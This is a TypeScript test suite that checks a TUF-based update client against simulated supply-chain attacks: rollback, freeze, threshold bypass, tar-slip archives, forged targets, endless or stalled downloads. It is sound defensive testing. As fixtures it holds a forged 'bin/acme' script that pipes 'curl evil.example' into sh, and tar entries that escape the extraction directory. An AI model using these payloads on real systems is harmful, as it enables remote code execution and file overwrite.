// The attack suite (TUF threat model): each attack on a copy of one published repository, served by nginx (or
// by a server that misbehaves on purpose), against an installed acme app driving @tufup/client. Every refused
// attack ends with its error code, the install dir byte-identical and the installer never called.
import assert from 'node:assert/strict';
import { appendFile, cp, readFile, readdir, rename, rm, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, before, describe, test } from 'node:test';
import { gunzipToTar } from '@tufup/archive';
import { makeTempDir } from '@tufup/common';
import {
  MetaFile,
  MetadataStore,
  type PrivateKey,
  expiresIn,
  formatExpires,
  formatTargetName,
  generateEd25519Key,
  readPatchCustom,
} from '@tufup/metadata';
import { apply, diff } from '@tufup/patch';
import {
  acmeClient,
  assertUnharmed,
  installAcme,
  recordingInstaller,
  refusedWith,
} from '../support/attack-app.js';
import {
  ATTACK_APP,
  type AttackRepo,
  GENUINE_MARK,
  type TarEntry,
  copyRepository,
  forge,
  forgeRelease,
  hostileTarGz,
  publishAcme,
  readRole,
  replayMetadata,
  sha256Of,
  stealKey,
} from '../support/attack-repo.js';
import { type Misbehaviour, startHostileServer } from '../support/attack-server.js';
import { type NginxServer, startNginx } from '../support/nginx.js';
import { treeDigest } from '../support/scenario.js';

const ARCHIVE_3 = formatTargetName(ATTACK_APP, '3.0', 'archive');
const PATCH_3 = formatTargetName(ATTACK_APP, '3.0', 'patch');

let work: string;
/** acme 1.0, 2.0, 3.0 (native patches); one key per role, thresholds 1. */
let base: AttackRepo;
/** acme 1.0, 2.0; root and targets need 2 signatures each (keys root + root_two, targets + targets_two). */
let guarded: AttackRepo;
let www: string;
let nginx: NginxServer;

before(async () => {
  work = await makeTempDir('tufup-e2e-attacks-');
  www = join(work, 'www');
  [base, guarded] = await Promise.all([
    publishAcme(join(work, 'base'), ['1.0', '2.0', '3.0']),
    publishAcme(join(work, 'guarded'), ['1.0', '2.0'], {
      initArgs: [
        ...['--key', 'root=root', '--key', 'root=root_two', '--threshold', 'root=2'],
        ...['--key', 'targets=targets', '--key', 'targets=targets_two', '--threshold', 'targets=2'],
      ],
    }),
  ]);
  nginx = await startNginx(www, join(work, 'nginx'));
});

after(async () => {
  await nginx?.stop();
  await rm(work, { recursive: true, force: true });
});

/** A copy of `repo`'s repository served by nginx at `<nginx>/<name>`. */
async function serveCase(name: string, repo: AttackRepo = base): Promise<{ dir: string; url: string }> {
  const dir = await copyRepository(repo, join(www, name));
  return { dir, url: `${nginx.baseUrl}/${name}` };
}

function appDir(name: string): string {
  return join(work, 'victims', name);
}

/** sha256 of each of the client's trusted metadata files (what it falls back to). */
async function trustedFiles(metadataDir: string, names: readonly string[]): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const name of names) out[name] = await sha256Of(join(metadataDir, name));
  return out;
}

const ALL_ROLES = ['root.json', 'timestamp.json', 'snapshot.json', 'targets.json'] as const;

/**
 * The client refreshes the genuine newest state (3.0 offered), then the server is tampered with, then the
 * same Client checks again: refused with `code`, the trusted files in `unchanged` byte-identical, and the
 * plan from the first check gone (downloadAndApplyUpdate has nothing to apply).
 */
async function refreshedThenRefused(
  name: string,
  tamper: (caseDir: string) => Promise<void>,
  code: string,
  unchanged: readonly string[] = ALL_ROLES,
): Promise<void> {
  const served = await serveCase(name);
  const app = await installAcme(base, '1.0', appDir(name));
  const installer = recordingInstaller();
  const client = acmeClient(app, served.url);
  assert.equal((await client.checkForUpdates())?.version, '3.0', 'the genuine newest state was seen first');
  const trusted = await trustedFiles(app.metadataDir, unchanged);
  await tamper(served.dir);
  await refusedWith(client.checkForUpdates(), code);
  assert.deepEqual(
    await trustedFiles(app.metadataDir, unchanged),
    trusted,
    'the trusted metadata is unchanged',
  );
  await refusedWith(client.downloadAndApplyUpdate({ install: installer.install }), 'NO_UPDATE_PLANNED');
  await assertUnharmed(app, installer);
}

/** sha256 of every file in the target cache: forged bytes must not be kept there under any name. */
async function cachedHashes(targetDir: string): Promise<string[]> {
  const out: string[] = [];
  for (const name of await readdir(targetDir)) out.push(await sha256Of(join(targetDir, name)));
  return out;
}

// ---- attacks on the metadata ------------------------------------------------------------------------

/** A fresh timestamp (version + 1) naming snapshot `snapshotVersion`, signed with the stolen timestamp key. */
async function resignTimestamp(dir: string, snapshotVersion: number): Promise<void> {
  const ts = await readRole(dir, 'timestamp');
  await forge(
    dir,
    'timestamp.json',
    ts,
    {
      version: ts.signed.version + 1,
      expires: expiresIn(1),
      snapshotMeta: new MetaFile({ version: snapshotVersion }),
    },
    [await stealKey(base, 'timestamp')],
  );
}

/** A fresh snapshot (version + 1) naming targets `targetsVersion`, and a timestamp for it: the online keys stolen. */
async function resignOnline(dir: string, targetsVersion: number): Promise<void> {
  const snapshot = await readRole(dir, 'snapshot');
  const forged = await forge(
    dir,
    'snapshot.json',
    snapshot,
    {
      version: snapshot.signed.version + 1,
      expires: expiresIn(1),
      meta: { 'targets.json': new MetaFile({ version: targetsVersion }) },
    },
    [await stealKey(base, 'snapshot')],
  );
  await resignTimestamp(dir, forged.signed.version);
}

describe('rollback: metadata older than what the client has seen', () => {
  test('an older timestamp.json replayed is refused (METADATA_INVALID)', async () => {
    await refreshedThenRefused(
      'rollback-timestamp',
      (dir) => replayMetadata(base, '2.0', dir, 'timestamp.json'),
      'METADATA_INVALID',
    );
  });

  test('an older snapshot.json behind a fresh timestamp signed with the stolen timestamp key is refused (METADATA_INVALID)', async () => {
    await refreshedThenRefused(
      'rollback-snapshot',
      async (dir) => {
        await replayMetadata(base, '2.0', dir, 'snapshot.json');
        await replayMetadata(base, '2.0', dir, 'targets.json');
        await resignTimestamp(dir, (await readRole(dir, 'snapshot')).signed.version);
      },
      'METADATA_INVALID',
    );
  });

  test('an older targets.json behind a fresh snapshot and timestamp signed with the stolen online keys is refused (METADATA_INVALID)', async () => {
    await refreshedThenRefused(
      'rollback-targets',
      async (dir) => {
        await replayMetadata(base, '2.0', dir, 'targets.json');
        await resignOnline(dir, (await readRole(dir, 'targets')).signed.version);
      },
      'METADATA_INVALID',
      // The forged timestamp is validly signed (stolen key) and newer, so TUF rightly persists it.
      ['root.json', 'snapshot.json', 'targets.json'],
    );
  });

  test('control: the same re-signing without a rollback is accepted, so the refusals above are the rollback checks', async () => {
    const served = await serveCase('rollback-control');
    const app = await installAcme(base, '1.0', appDir('rollback-control'));
    const client = acmeClient(app, served.url);
    assert.equal((await client.checkForUpdates())?.version, '3.0');
    const snapshotBefore = (await readRole(served.dir, 'snapshot')).signed.version;
    await resignOnline(served.dir, (await readRole(served.dir, 'targets')).signed.version);
    assert.equal((await client.checkForUpdates())?.version, '3.0');
    const trusted = JSON.parse(await readFile(join(app.metadataDir, 'snapshot.json'), 'utf8')) as {
      signed: { version: number };
    };
    assert.equal(trusted.signed.version, snapshotBefore + 1, 'the re-signed snapshot is now trusted');
  });
});

test('indefinite freeze: an expired timestamp is refused (METADATA_EXPIRED) by a client that saw an older state, a fresh one, and one that does not require the refresh', async () => {
  const served = await serveCase('freeze');
  const liveMetadata = join(work, 'freeze-live-metadata');
  await cp(join(served.dir, 'metadata'), liveMetadata, { recursive: true });
  // The client last saw the repository right after 1.0.
  await rm(join(served.dir, 'metadata'), { recursive: true });
  await cp(base.stateDir('1.0'), join(served.dir, 'metadata'), { recursive: true });
  const seen = await installAcme(base, '1.0', appDir('freeze-seen'));
  assert.equal(
    await acmeClient(seen, served.url).checkForUpdates(),
    undefined,
    'up to date at the 1.0 state',
  );

  // The mirror is frozen at a later state whose timestamp has since expired (genuinely signed, expired).
  await rm(join(served.dir, 'metadata'), { recursive: true });
  await cp(liveMetadata, join(served.dir, 'metadata'), { recursive: true });
  const ts = await readRole(served.dir, 'timestamp');
  await forge(
    served.dir,
    'timestamp.json',
    ts,
    { expires: formatExpires(new Date(Date.now() - 3_600_000)) },
    [await stealKey(base, 'timestamp')],
  );

  const installer = recordingInstaller();
  await refusedWith(acmeClient(seen, served.url).checkForUpdates(), 'METADATA_EXPIRED');
  await assertUnharmed(seen, installer);

  const fresh = await installAcme(base, '1.0', appDir('freeze-fresh'));
  const freshClient = acmeClient(fresh, served.url);
  await refusedWith(freshClient.checkForUpdates(), 'METADATA_EXPIRED');
  await refusedWith(freshClient.downloadAndApplyUpdate({ install: installer.install }), 'NO_UPDATE_PLANNED');
  await assertUnharmed(fresh, installer);

  // An app's default: no exception, no update, and the reason on lastRefreshError.
  const lenient = await installAcme(base, '1.0', appDir('freeze-lenient'));
  const lenientClient = acmeClient(lenient, served.url, { refreshRequired: false });
  assert.equal(await lenientClient.checkForUpdates(), undefined);
  assert.equal(lenientClient.lastRefreshError?.code, 'METADATA_EXPIRED');
  await assertUnharmed(lenient, installer);

  // Control: the same re-signing with an expiry in the future is accepted, so the refusals were the expiry.
  await forge(served.dir, 'timestamp.json', ts, { expires: expiresIn(1) }, [
    await stealKey(base, 'timestamp'),
  ]);
  assert.equal((await acmeClient(seen, served.url).checkForUpdates())?.version, '3.0');
});

test('indefinite freeze: the server keeps serving the timestamp the client already trusts after it expired (METADATA_EXPIRED)', async () => {
  const served = await serveCase('freeze-stale');
  // A timestamp that is genuine and valid for a few seconds: the last one the mirror ever got.
  const expires = new Date(Math.ceil(Date.now() / 1000) * 1000 + 3000);
  await forge(
    served.dir,
    'timestamp.json',
    await readRole(served.dir, 'timestamp'),
    { expires: formatExpires(expires) },
    [await stealKey(base, 'timestamp')],
  );
  const app = await installAcme(base, '1.0', appDir('freeze-stale'));
  const installer = recordingInstaller();
  const client = acmeClient(app, served.url);
  assert.equal((await client.checkForUpdates())?.version, '3.0', 'accepted while valid');
  await sleep(expires.getTime() - Date.now() + 500);
  await refusedWith(client.checkForUpdates(), 'METADATA_EXPIRED');
  await refusedWith(client.downloadAndApplyUpdate({ install: installer.install }), 'NO_UPDATE_PLANNED');
  await assertUnharmed(app, installer);
});

describe('mix-and-match: metadata of different releases served together', () => {
  test('the newest timestamp and snapshot with the targets.json of the release before are refused (METADATA_INVALID)', async () => {
    const served = await serveCase('mix-old-targets');
    await replayMetadata(base, '2.0', served.dir, 'targets.json');
    const app = await installAcme(base, '1.0', appDir('mix-old-targets'));
    const installer = recordingInstaller();
    await refusedWith(acmeClient(app, served.url).checkForUpdates(), 'METADATA_INVALID');
    await assertUnharmed(app, installer);
  });

  test('the newest timestamp and targets with the snapshot.json of the release before are refused (METADATA_INVALID)', async () => {
    const served = await serveCase('mix-old-snapshot');
    await replayMetadata(base, '2.0', served.dir, 'snapshot.json');
    const app = await installAcme(base, '1.0', appDir('mix-old-snapshot'));
    const installer = recordingInstaller();
    await refusedWith(acmeClient(app, served.url).checkForUpdates(), 'METADATA_INVALID');
    await assertUnharmed(app, installer);
  });
});

/** Release 9.0 forged on a copy of the guarded repo: `targets` signers as given, the online keys stolen. */
async function publishForgedRelease(dir: string, archive: Buffer, targets: PrivateKey[]): Promise<void> {
  await forgeRelease(dir, '9.0', archive, {
    targets,
    snapshot: [await stealKey(guarded, 'snapshot')],
    timestamp: [await stealKey(guarded, 'timestamp')],
  });
}

describe('signatures below a threshold (root and targets need 2 of 2)', () => {
  test('a root rotation to the attacker’s keys signed by 1 of 2 root keys is refused (METADATA_INVALID)', async () => {
    const served = await serveCase('threshold-root', guarded);
    const attacker = {
      root: generateEd25519Key(),
      targets: generateEd25519Key(),
      snapshot: generateEd25519Key(),
      timestamp: generateEd25519Key(),
    };
    const root = await readRole(served.dir, 'root');
    const keys = Object.fromEntries(Object.values(attacker).map((k) => [k.keyid, k.toTufKey()]));
    const roles = Object.fromEntries(
      Object.entries(attacker).map(([role, k]) => [role, { keyIDs: [k.keyid], threshold: 1 }]),
    );
    await forge(served.dir, '2.root.json', root, { version: 2, keys, roles }, [
      await stealKey(guarded, 'root'),
      attacker.root,
    ]);
    // Everything else re-signed by the attacker's keys, offering a release 9.0.
    const archive = await readFile(join(served.dir, 'targets', `${ATTACK_APP}-2.0.tar.gz`));
    await forgeRelease(served.dir, '9.0', archive, {
      targets: [attacker.targets],
      snapshot: [attacker.snapshot],
      timestamp: [attacker.timestamp],
    });

    const app = await installAcme(guarded, '1.0', appDir('threshold-root'));
    const installer = recordingInstaller();
    await refusedWith(acmeClient(app, served.url).checkForUpdates(), 'METADATA_INVALID');
    const trustedRoot = JSON.parse(await readFile(join(app.metadataDir, 'root.json'), 'utf8')) as {
      signed: { version: number };
    };
    assert.equal(trustedRoot.signed.version, 1, 'the client still trusts root v1');
    await assertUnharmed(app, installer);

    // Control: with both root keys the same forged rotation is followed, so the refusal was the threshold.
    await forge(served.dir, '2.root.json', root, { version: 2, keys, roles }, [
      await stealKey(guarded, 'root'),
      await stealKey(guarded, 'root_two'),
      attacker.root,
    ]);
    const control = await installAcme(guarded, '1.0', appDir('threshold-root-control'));
    assert.equal((await acmeClient(control, served.url).checkForUpdates())?.version, '9.0');
  });

  test('a release signed by 1 of 2 targets keys is refused (METADATA_INVALID)', async () => {
    const served = await serveCase('threshold-targets', guarded);
    const benign = await readFile(join(served.dir, 'targets', `${ATTACK_APP}-2.0.tar.gz`));
    await publishForgedRelease(served.dir, benign, [await stealKey(guarded, 'targets')]);
    const app = await installAcme(guarded, '1.0', appDir('threshold-targets'));
    const installer = recordingInstaller();
    await refusedWith(acmeClient(app, served.url).checkForUpdates(), 'METADATA_INVALID');
    await assertUnharmed(app, installer);
  });
});

describe('tar-slip archive', () => {
  /** Names found anywhere under `dir` that an escaping entry would have created. */
  async function slipped(dir: string): Promise<string[]> {
    const entries = await readdir(dir, { recursive: true });
    return entries.filter((e) => /SLIPPED/.test(String(e))).map(String);
  }

  /** Entries that write outside the extraction dir, three ways; `victimDir` is where they would land. */
  function slipArchives(victimDir: string): Record<'traversal' | 'absolute' | 'symlink', TarEntry[]> {
    return {
      traversal: [
        { name: './', type: 'dir' },
        { name: './README.txt', type: 'file', content: 'looks normal\n' },
        { name: '../../SLIPPED-traversal.txt', type: 'file', content: 'pwned\n' },
      ],
      absolute: [
        { name: './', type: 'dir' },
        { name: join(victimDir, 'SLIPPED-absolute.txt'), type: 'file', content: 'pwned\n' },
      ],
      symlink: [
        { name: './', type: 'dir' },
        { name: './escape', type: 'symlink', linkname: '../..' },
        { name: './escape/SLIPPED-symlink.txt', type: 'file', content: 'pwned\n' },
      ],
    };
  }

  test('signed with one stolen targets key when targets needs 2 signatures: refused before download (METADATA_INVALID)', async () => {
    const served = await serveCase('tarslip-one-key', guarded);
    const app = await installAcme(guarded, '1.0', appDir('tarslip-one-key'));
    const archive = hostileTarGz(slipArchives(app.dir).traversal);
    await publishForgedRelease(served.dir, archive, [await stealKey(guarded, 'targets')]);
    const installer = recordingInstaller();
    await refusedWith(acmeClient(app, served.url).checkForUpdates(), 'METADATA_INVALID');
    assert.deepEqual(
      (await readdir(app.targetDir)).filter((n) => n.includes('9.0')),
      [],
      'the archive was never downloaded',
    );
    assert.deepEqual(await slipped(work), []);
    await assertUnharmed(app, installer);
  });

  for (const vector of ['traversal', 'absolute', 'symlink'] as const) {
    test(`defence in depth: with both targets keys stolen, a ${vector} tar-slip passes TUF and is refused at extraction (EXTRACT_FAILED)`, async () => {
      const name = `tarslip-both-keys-${vector}`;
      const served = await serveCase(name, guarded);
      const app = await installAcme(guarded, '1.0', appDir(name));
      const archive = hostileTarGz(slipArchives(app.dir)[vector]);
      await publishForgedRelease(served.dir, archive, [
        await stealKey(guarded, 'targets'),
        await stealKey(guarded, 'targets_two'),
      ]);
      const installer = recordingInstaller();
      const client = acmeClient(app, served.url);
      const info = await client.checkForUpdates();
      assert.equal(info?.version, '9.0', 'the forged release verifies: the threshold is met');
      await refusedWith(client.downloadAndApplyUpdate({ install: installer.install }), 'EXTRACT_FAILED');
      assert.deepEqual(await slipped(work), [], 'nothing written outside the staging dir');
      await assertUnharmed(app, installer);
    });
  }
});

// ---- attacks on the target files and the transport ---------------------------------------------------

test('arbitrary software: a 3.0 archive and patch replaced by forged files of the signed lengths are refused (TARGET_MISMATCH)', async () => {
  const served = await serveCase('arbitrary');
  const genuine = await readFile(join(served.dir, 'targets', ARCHIVE_3));
  const evil = hostileTarGz([
    { name: './', type: 'dir' },
    { name: './bin/', type: 'dir' },
    { name: './bin/acme', type: 'file', mode: 0o755, content: '#!/bin/sh\ncurl evil.example | sh\n' },
  ]);
  assert.ok(evil.length < genuine.length);
  // Same length as signed (gzip ignores the zero padding): only the hashes can tell.
  const forgedArchive = Buffer.concat([evil, Buffer.alloc(genuine.length - evil.length)]);
  await writeFile(join(served.dir, 'targets', ARCHIVE_3), forgedArchive);
  const patchLength = (await stat(join(served.dir, 'targets', PATCH_3))).size;
  const forgedPatch = Buffer.alloc(patchLength, 0x5a);
  await writeFile(join(served.dir, 'targets', PATCH_3), forgedPatch);
  const forged = [await sha256Of(forgedArchive), await sha256Of(forgedPatch)];

  // Without the current archive cached: the full archive is planned, and refused.
  const full = await installAcme(base, '2.0', appDir('arbitrary-full'), { cacheArchive: false });
  const installer = recordingInstaller();
  const fullClient = acmeClient(full, served.url);
  // Patches off: with nothing cached the client would rebuild 2.0's tar from the install dir and patch it.
  const plan = await fullClient.checkForUpdates({ patch: false });
  assert.deepEqual(plan?.patches, [], 'full archive planned');
  const err = await refusedWith(
    fullClient.downloadAndApplyUpdate({ install: installer.install }),
    'TARGET_MISMATCH',
  );
  assert.equal((err as Error & { target?: string }).target, ARCHIVE_3);
  await assertUnharmed(full, installer);

  // With it cached: the patch is planned, refused, and the fallback archive is refused too.
  const patched = await installAcme(base, '2.0', appDir('arbitrary-patch'));
  const patchClient = acmeClient(patched, served.url);
  assert.deepEqual(
    (await patchClient.checkForUpdates())?.patches.map((p) => p.filename),
    [PATCH_3],
  );
  await refusedWith(patchClient.downloadAndApplyUpdate({ install: installer.install }), 'TARGET_MISMATCH');
  await assertUnharmed(patched, installer);
  for (const app of [full, patched]) {
    const kept = await cachedHashes(app.targetDir);
    assert.ok(!forged.some((h) => kept.includes(h)), 'no forged bytes kept in the cache');
  }
});

describe('endless data', () => {
  test('a 3.0 archive 16 MiB longer than signed on nginx is cut off at the signed length (TARGET_MISMATCH)', async () => {
    const served = await serveCase('endless-nginx');
    const signedLength = (await stat(join(served.dir, 'targets', ARCHIVE_3))).size;
    await appendFile(join(served.dir, 'targets', ARCHIVE_3), Buffer.alloc(16 * 1024 * 1024, 0x41));
    const app = await installAcme(base, '2.0', appDir('endless-nginx'), { cacheArchive: false });
    const installer = recordingInstaller();
    const client = acmeClient(app, served.url);
    await client.checkForUpdates({ patch: false });
    await refusedWith(client.downloadAndApplyUpdate({ install: installer.install }), 'TARGET_MISMATCH');
    for (const name of await readdir(app.targetDir)) {
      const { size } = await stat(join(app.targetDir, name));
      assert.ok(
        size <= signedLength,
        `${name} (${size} bytes) is not longer than the signed ${signedLength}`,
      );
    }
    await assertUnharmed(app, installer);
  });

  test('a server streaming a target without end is cut off soon after the signed length (TARGET_MISMATCH)', async () => {
    const { dir } = await serveCase('endless-stream');
    const signedLength = (await stat(join(dir, 'targets', ARCHIVE_3))).size;
    const server = await startHostileServer(dir, (p) =>
      p === `/targets/${ARCHIVE_3}` ? { kind: 'endless' } : undefined,
    );
    try {
      const app = await installAcme(base, '2.0', appDir('endless-stream'), { cacheArchive: false });
      const installer = recordingInstaller();
      const client = acmeClient(app, server.baseUrl);
      await client.checkForUpdates({ patch: false });
      // The stream has no end: refusing at all is refusing at the signed length.
      await refusedWith(client.downloadAndApplyUpdate({ install: installer.install }), 'TARGET_MISMATCH');
      // The client stops reading; what the server could push is bounded by socket buffers, not by the attacker.
      const pushed = server.sent.get(`/targets/${ARCHIVE_3}`) ?? 0;
      assert.ok(pushed < signedLength + 32 * 1024 * 1024, `server pushed ${pushed} bytes`);
      await assertUnharmed(app, installer);
    } finally {
      await server.stop();
    }
  });

  test('a server streaming timestamp.json without end is cut off at the metadata size limit (METADATA_INVALID)', async () => {
    const { dir } = await serveCase('endless-metadata');
    const server = await startHostileServer(dir, (p) =>
      p === '/metadata/timestamp.json' ? { kind: 'endless' } : undefined,
    );
    try {
      const app = await installAcme(base, '1.0', appDir('endless-metadata'));
      const installer = recordingInstaller();
      await refusedWith(acmeClient(app, server.baseUrl).checkForUpdates(), 'METADATA_INVALID');
      assert.ok((server.sent.get('/metadata/timestamp.json') ?? 0) < 32 * 1024 * 1024);
      await assertUnharmed(app, installer);
    } finally {
      await server.stop();
    }
  });
});

test('malicious mirror: genuine metadata with the 2.0 and 3.0 archives and patches swapped is refused (TARGET_MISMATCH)', async () => {
  const served = await serveCase('mirror');
  const t = (name: string) => join(served.dir, 'targets', name);
  for (const kind of ['archive', 'patch'] as const) {
    const two = t(formatTargetName(ATTACK_APP, '2.0', kind));
    const three = t(formatTargetName(ATTACK_APP, '3.0', kind));
    await rename(two, `${two}.swap`);
    await rename(three, two);
    await rename(`${two}.swap`, three);
  }
  const app = await installAcme(base, '2.0', appDir('mirror'));
  const installer = recordingInstaller();
  const client = acmeClient(app, served.url);
  assert.deepEqual(
    (await client.checkForUpdates())?.patches.map((p) => p.filename),
    [PATCH_3],
  );
  const err = await refusedWith(
    client.downloadAndApplyUpdate({ install: installer.install }),
    'TARGET_MISMATCH',
  );
  assert.equal(
    (err as Error & { target?: string }).target,
    ARCHIVE_3,
    'the patch, then the archive, refused',
  );
  await assertUnharmed(app, installer);
});

test('a TUF-valid patch that makes the wrong tar: the full archive is used in the same call and exactly 3.0 is staged', async () => {
  const served = await serveCase('wrong-tar');
  const scratch = join(work, 'wrong-tar-scratch');
  const tar2 = join(scratch, '2.0.tar');
  const tar3 = join(scratch, '3.0.tar');
  const evilTar = join(scratch, 'evil-3.0.tar');
  const evilPatch = join(scratch, 'evil-3.0.patch');
  await gunzipToTar(join(served.dir, 'targets', formatTargetName(ATTACK_APP, '2.0', 'archive')), tar2);
  const genuine = await gunzipToTar(join(served.dir, 'targets', ARCHIVE_3), tar3);
  // Same size, valid tar, different README bytes: a tar only the signed tar_hash can tell apart.
  const tarBytes = await readFile(tar3);
  const at = tarBytes.indexOf(GENUINE_MARK);
  assert.ok(at > 0);
  tarBytes.write('EVILONE', at);
  await writeFile(evilTar, tarBytes);
  await diff(tar2, evilTar, evilPatch);
  const evilSha = await sha256Of(evilTar);
  assert.equal(
    (await apply(tar2, evilPatch, join(scratch, 'check.tar'))).sha256,
    evilSha,
    'the patch makes it',
  );

  // The publisher's own targets key signs the bad patch; its custom tar_hash stays the true 3.0 tar.
  await writeFile(join(served.dir, 'targets', PATCH_3), await readFile(evilPatch));
  const store = await MetadataStore.load(join(served.dir, 'metadata'));
  const entry = store.getTarget(PATCH_3)!;
  const custom = readPatchCustom(entry.unrecognizedFields.custom);
  assert.equal(custom.tarHash, genuine.sha256);
  await store.addTargetFile(PATCH_3, evilPatch, { custom: custom.raw });
  for (const role of store.bump()) store.sign(role, [await stealKey(base, role)]);
  await store.save();

  const app = await installAcme(base, '2.0', appDir('wrong-tar'));
  const installer = recordingInstaller();
  const client = acmeClient(app, served.url);
  assert.deepEqual(
    (await client.checkForUpdates())?.patches.map((p) => p.filename),
    [PATCH_3],
  );
  const result = await client.downloadAndApplyUpdate({ install: installer.install });
  assert.equal(result.version, '3.0');
  assert.equal(result.mode, 'full');
  assert.equal(result.patchFailure?.code, 'PATCH_FAILED');
  assert.deepEqual(result.downloaded, [PATCH_3, ARCHIVE_3]);
  assert.equal(installer.calls.length, 1, 'the installer was called once');
  assert.deepEqual(
    installer.calls[0]!.staged,
    await treeDigest(base.bundles.get('3.0')!),
    'exactly 3.0 staged',
  );
  assert.ok(!(await cachedHashes(app.targetDir)).includes(evilSha), 'the wrong tar is not kept');
  assert.deepEqual(await treeDigest(app.installDir), app.tree, 'the installer decides when the app changes');
});

describe('a server that hangs', () => {
  const quick = { fetcherOptions: { timeoutMs: 300, retries: 1, retryDelayMs: 10, maxRetryDelayMs: 20 } };

  // The server never answers: a check that ends at all was ended by the client's timeout (the runner's timeout
  // is the only deadline of these tests, so a loaded machine cannot fail them).
  test('one that accepts and never answers: the check fails with NETWORK_ERROR', async () => {
    const { dir } = await serveCase('hang');
    const server = await startHostileServer(dir, (): Misbehaviour => ({ kind: 'hang' }));
    try {
      const app = await installAcme(base, '1.0', appDir('hang'));
      const installer = recordingInstaller();
      await refusedWith(acmeClient(app, server.baseUrl, quick).checkForUpdates(), 'NETWORK_ERROR');
      // An app's default: no update, the reason on lastRefreshError, and no longer wait.
      const lenient = acmeClient(app, server.baseUrl, { ...quick, refreshRequired: false });
      assert.equal(await lenient.checkForUpdates(), undefined);
      assert.equal(lenient.lastRefreshError?.code, 'NETWORK_ERROR');
      assert.ok(server.requests.length >= 2, 'the request was retried');
      await assertUnharmed(app, installer);
    } finally {
      await server.stop();
    }
  });

  // Slow retrieval: every byte arrives within the idle timeout, so only a deadline on the whole request helps.
  // Without a whole-request deadline the drip would end and the check succeed: it must fail instead.
  test('one that drips timestamp.json a byte every 200 ms: the check fails with NETWORK_ERROR', async () => {
    const { dir } = await serveCase('drip');
    const server = await startHostileServer(dir, (p) =>
      p === '/metadata/timestamp.json' ? { kind: 'drip', intervalMs: 200 } : undefined,
    );
    try {
      const app = await installAcme(base, '1.0', appDir('drip'));
      const installer = recordingInstaller();
      await refusedWith(acmeClient(app, server.baseUrl, quick).checkForUpdates(), 'NETWORK_ERROR');
      await assertUnharmed(app, installer);
    } finally {
      await server.stop();
    }
  });

  test('one that stalls in the middle of the 3.0 archive: the download fails with NETWORK_ERROR', async () => {
    const { dir } = await serveCase('stall');
    const server = await startHostileServer(dir, (p) =>
      p === `/targets/${ARCHIVE_3}` ? { kind: 'stall', afterBytes: 4096 } : undefined,
    );
    try {
      const app = await installAcme(base, '2.0', appDir('stall'), { cacheArchive: false });
      const installer = recordingInstaller();
      const client = acmeClient(app, server.baseUrl, quick);
      assert.equal((await client.checkForUpdates({ patch: false }))?.version, '3.0');
      await refusedWith(client.downloadAndApplyUpdate({ install: installer.install }), 'NETWORK_ERROR');
      await assertUnharmed(app, installer);
    } finally {
      await server.stop();
    }
  });
});
